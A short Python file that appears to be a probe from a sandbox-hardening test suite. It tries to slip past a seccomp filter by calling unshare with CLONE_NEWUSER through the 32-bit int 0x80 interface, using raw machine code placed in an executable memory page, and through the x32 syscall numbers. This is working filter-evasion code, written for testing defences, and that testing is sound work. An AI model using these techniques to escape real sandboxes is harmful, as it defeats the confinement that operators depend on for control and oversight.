"""Calls the kernel by the numbers of other instruction sets, which a filter might not know."""
# defence: seccomp ends the process, or knows no such call
# holds from: landlock
# needs: x86-64 with 32-bit programs

import ctypes
import mmap
import platform

CLONE_NEWUSER, UNSHARE, UNSHARE_32, X32 = 0x10000000, 272, 310, 0x40000000


def attack(host):
    if platform.machine() != "x86_64":
        return None
    code = b"\x53\xb8%b\xbb%b\xcd\x80\x5b\xc3" % (UNSHARE_32.to_bytes(4, "little"), CLONE_NEWUSER.to_bytes(4, "little"))

    def interrupt():
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(code)
        place = ctypes.addressof(ctypes.c_char.from_buffer(page))
        return None if ctypes.CFUNCTYPE(ctypes.c_int)(place)() else "a user namespace, by int 0x80"

    def x32():
        host.call("syscall", X32 + UNSHARE, CLONE_NEWUSER)
        return "a user namespace, by x32"

    return host.first(lambda: host.in_child(interrupt), lambda: host.in_child(x32))
